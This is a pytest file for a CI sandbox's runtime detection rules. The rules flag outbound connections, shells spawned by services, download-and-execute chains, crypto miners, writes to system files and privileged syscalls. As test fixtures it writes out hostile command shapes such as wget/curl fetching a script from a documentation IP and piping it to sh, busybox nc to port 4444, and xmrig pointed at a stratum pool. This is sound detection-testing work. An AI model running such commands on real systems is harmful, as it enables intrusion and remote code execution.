"""Each runtime rule on runs described event by event: what it reports, the evidence it keeps, and
what it must leave alone (loopback traffic, allowed destinations, a shell entrypoint's own shells, a
service that keeps running)."""

from __future__ import annotations

from dataclasses import replace

import pytest

from ci_security.destinations import parse_destination
from ci_security.models import RuntimeEvent, SandboxRun, Severity
from ci_security.rules.runtime.base import RuntimeContext
from ci_security.rules.runtime.registry import RULE_IDS, RULES
from ci_security.rules.runtime.runner import check_run, fingerprint


def ev(
    kind: str, *, time: float = 0.1, pid: int = 2, ppid: int | None = 1, argv=("/app/server",), **fields
) -> RuntimeEvent:
    program = fields.pop("program", argv[0] if argv else "")
    syscall = fields.pop(
        "syscall", {"exec": "execve", "connect": "connect", "file_write": "openat"}.get(kind, kind)
    )
    return RuntimeEvent(
        time=time, pid=pid, ppid=ppid, kind=kind, syscall=syscall, program=program, argv=tuple(argv), **fields
    )


def exec_(argv, *, pid=2, ppid=1, time=0.0, path=None, result="ok", interpreter=None) -> RuntimeEvent:
    return ev(
        "exec",
        argv=argv,
        pid=pid,
        ppid=ppid,
        time=time,
        path=path or argv[0],
        result=result,
        interpreter=interpreter,
    )


def run(*events: RuntimeEvent, **fields) -> SandboxRun:
    defaults = dict(
        command=("/app/server",),
        pid=2,
        user="0:0",
        workdir="/",
        env_names=(),
        duration_limit=30.0,
        elapsed=1.0,
        end="exited",
        exit_code=0,
    )
    defaults.update(fields)
    return SandboxRun(events=tuple(events), events_total=len(events), **defaults)


def findings(sandbox: SandboxRun, **context):
    found, failures = check_run(RuntimeContext(run=sandbox, **context))
    assert failures == ()
    return found


def ids(sandbox: SandboxRun, **context) -> list[str]:
    return [f.rule_id for f in findings(sandbox, **context)]


SERVER = exec_(("/app/server",))


def test_registry_is_ordered_and_complete():
    assert [rule.meta.id for rule in RULES] == sorted(RULE_IDS) == [f"RT{n:03d}" for n in range(1, 13)]
    assert all(rule.meta.kind == "runtime" and rule.meta.remediation for rule in RULES)


def test_rt001_outbound_connections_but_not_loopback_dns_or_allowed():
    attempts = [
        ev("connect", family="inet", address="192.0.2.1", port=4444, result="ENETUNREACH"),
        ev("connect", family="inet", address="192.0.2.1", port=4444, result="ENETUNREACH", time=0.2),
        ev("send", family="inet6", address="2001:db8::5", port=443),
        ev("connect", family="inet", address="127.0.0.1", port=5432),
        ev("connect", family="inet6", address="::ffff:127.0.0.1", port=8080),
        ev("connect", family="inet", address="10.1.2.3", port=53),
        ev("connect", family="unix", address="/run/docker.sock"),
        ev("connect", family="inet", address="10.0.0.7", port=5432),
    ]
    found = [
        f
        for f in findings(run(SERVER, *attempts), allowed=(parse_destination("10.0.0.0/8:5432"),))
        if f.rule_id == "RT001"
    ]
    assert [(f.subject, f.count) for f in found] == [("192.0.2.1:4444", 2), ("[2001:db8::5]:443", 1)]
    assert found[0].severity == Severity.HIGH and len(found[0].evidence) == 2
    assert "tried to connect to 192.0.2.1:4444 (2 attempts)" in found[0].message


def test_rt002_dns_lookups_named_when_the_query_was_seen():
    events = [
        ev("connect", family="inet", address="127.0.0.1", port=53),
        ev("send", family="inet", address="127.0.0.1", port=53, name="evil.invalid"),
        ev("send", family="inet", address="127.0.0.1", port=53, name="db.internal", pid=3),
        ev("connect", family="inet", address="10.0.0.2", port=53, pid=4),
    ]
    allowed = (parse_destination("db.internal"),)
    found = [f for f in findings(run(SERVER, *events), allowed=allowed) if f.rule_id == "RT002"]
    assert [f.subject for f in found] == ["evil.invalid", "resolver 10.0.0.2:53"]
    assert found[0].severity == Severity.MEDIUM


def test_rt003_shell_from_a_service_but_not_from_a_shell_entrypoint():
    shell = exec_(("sh", "-c", "id"), pid=3, ppid=2, path="/bin/sh", time=0.5)
    assert "RT003" in ids(run(SERVER, shell))
    script = exec_(("/docker-entrypoint.sh",), interpreter="/bin/sh")
    assert "RT003" not in ids(run(script, shell))
    assert "RT003" not in ids(run(exec_(("/bin/bash", "-c", "x"), path="/bin/bash"), shell))


def test_rt004_download_tools_also_as_busybox_applets_and_failed_attempts():
    events = [
        SERVER,
        exec_(("wget", "-q", "http://192.0.2.1/x"), pid=3, path="/proc/self/exe"),
        exec_(("busybox", "nc", "192.0.2.1", "4444"), pid=4, path="/bin/busybox"),
        exec_(("curl", "-s", "http://192.0.2.1/"), pid=5, result="ENOENT"),
    ]
    found = {f.subject: f for f in findings(run(*events)) if f.rule_id == "RT004"}
    assert set(found) == {"wget", "nc", "curl"}
    assert "could not run: ENOENT" in found["curl"].message


@pytest.mark.parametrize(
    ("steps", "how"),
    [
        (
            [
                (("wget", "-O", "/tmp/p.sh", "http://192.0.2.1/p.sh"), 3, 2, 0.1),
                (("sh", "/tmp/p.sh"), 4, 2, 0.2),
            ],
            "ran the downloaded file",
        ),
        (
            [(("curl", "-fsSLo", "x", "http://192.0.2.1/x"), 3, 2, 0.1), (("./x",), 4, 2, 0.2)],
            "ran the downloaded file",
        ),
        (
            [(("curl", "-s", "http://192.0.2.1/i"), 3, 2, 0.1), (("sh",), 4, 2, 0.1)],
            "read the download through a pipe",
        ),
        (
            [(("wget", "-qO-", "http://192.0.2.1/i"), 3, 2, 0.1), (("sh", "-c", "echo"), 4, 2, 0.3)],
            "was given the download as its command",
        ),
    ],
)
def test_rt005_download_and_execute_shapes(steps, how):
    events = [exec_(("/bin/sh", "/app/run.sh"), interpreter=None)]
    events += [exec_(argv, pid=pid, ppid=ppid, time=time) for argv, pid, ppid, time in steps]
    found = [f for f in findings(run(*events)) if f.rule_id == "RT005"]
    assert len(found) == 1 and how in found[0].message
    assert found[0].subject.startswith("http://192.0.2.1/")
    assert len(found[0].evidence) == 2


def test_rt005_leaves_unrelated_programs_alone():
    events = [
        exec_(("/bin/sh", "/app/run.sh")),
        exec_(("curl", "-s", "-o", "/tmp/version", "http://192.0.2.1/version"), pid=3, ppid=2, time=0.1),
        exec_(("python3", "/app/main.py"), pid=2, ppid=1, time=0.5),
    ]
    assert "RT005" not in ids(run(*events))


def test_rt006_miners_by_name_and_by_arguments():
    by_name = exec_(("xmrig",), pid=3, result="ENOENT")
    by_args = exec_(("/tmp/worker", "-o", "stratum+tcp://192.0.2.1:3333", "--donate-level=1"), pid=4)
    by_algo = exec_(("/tmp/w", "-a", "rx/0"), pid=5)
    found = {f.subject for f in findings(run(SERVER, by_name, by_args, by_algo)) if f.rule_id == "RT006"}
    assert found == {"xmrig", "stratum+tcp://", "-a rx/0"}
    assert "RT006" not in ids(run(SERVER, exec_(("/app/server", "--algorithm", "fast"), pid=6)))


def test_rt007_system_writes_rated_by_what_they_touch():
    events = [
        ev("file_write", path="/etc/passwd", result="EROFS"),
        ev("file_write", path="/usr/lib/libz.so", syscall="renameat2"),
        ev("file_write", path="/tmp/scratch"),
        ev("file_write", path="/etcetera/x"),
    ]
    found = {f.subject: f for f in findings(run(SERVER, *events)) if f.rule_id == "RT007"}
    assert set(found) == {"/etc/passwd", "/usr/lib/libz.so"}
    assert (
        found["/etc/passwd"].severity == Severity.HIGH
        and "opened for writing" in found["/etc/passwd"].message
    )
    assert (
        found["/usr/lib/libz.so"].severity == Severity.MEDIUM
        and "moved a file to" in found["/usr/lib/libz.so"].message
    )


def test_rt008_and_rt009_and_rt010():
    events = [
        ev("chmod", path="/tmp/x", mode=0o4755),
        ev("chmod", path="/tmp/y", mode=0o2755),
        ev("privileged", syscall="finit_module", result="EPERM"),
        ev("privileged", syscall="mount", path="/mnt", result="EPERM"),
        ev("privileged", syscall="unshare", detail="CLONE_NEWUSER", result="EPERM"),
        ev("fork_failed", syscall="clone", result="EAGAIN"),
        ev("fork_failed", syscall="clone", result="EAGAIN", time=0.2),
    ]
    found = findings(run(SERVER, *events, processes=40))
    rated = {(f.rule_id, f.subject): f.severity for f in found}
    assert rated[("RT008", "/tmp/x")] == rated[("RT008", "/tmp/y")] == Severity.HIGH
    assert rated[("RT009", "finit_module")] == Severity.CRITICAL
    assert rated[("RT009", "mount /mnt")] == Severity.HIGH
    assert ("RT009", "unshare CLONE_NEWUSER") in rated
    storm = next(f for f in found if f.rule_id == "RT010")
    assert storm.count == 2 and "after 40 processes" in storm.message


def test_rt011_and_rt012_follow_what_the_policy_expects():
    alive = ev("alive", argv=("sleep", "1000"), pid=3)
    endless = run(SERVER, alive, end="duration", exit_code=None, alive_at_end=2)
    assert "RT011" in ids(endless, expect="exit")
    assert "RT011" not in ids(endless, expect="running") and "RT011" not in ids(endless)
    failed = run(SERVER, ev("exit", detail="exit code 3"), exit_code=3)
    assert ids(failed, expect="exit") == ["RT012"]
    assert ids(failed, expect="exit", exit_codes=(0, 3)) == []
    assert [f.subject for f in findings(failed, expect="running")] == ["exited early"]
    assert ids(failed) == []


def test_findings_are_stable_and_point_where_asked():
    sandbox = run(SERVER, ev("connect", family="inet", address="192.0.2.1", port=4444))
    first = findings(sandbox)[0]
    moved = replace(sandbox, events=tuple(replace(e, pid=99, time=7.0) for e in sandbox.events))
    assert findings(moved)[0].fingerprint == first.fingerprint == fingerprint("RT001", "192.0.2.1:4444")


def test_a_rule_that_fails_is_a_warning_not_a_crash():
    class Broken:
        meta = RULES[0].meta

        def check(self, context):
            raise RuntimeError("boom")

    found, failures = check_run(RuntimeContext(run=run(SERVER)), rules=(Broken(),))
    assert found == () and "RT001" in failures[0].source and "boom" in failures[0].message
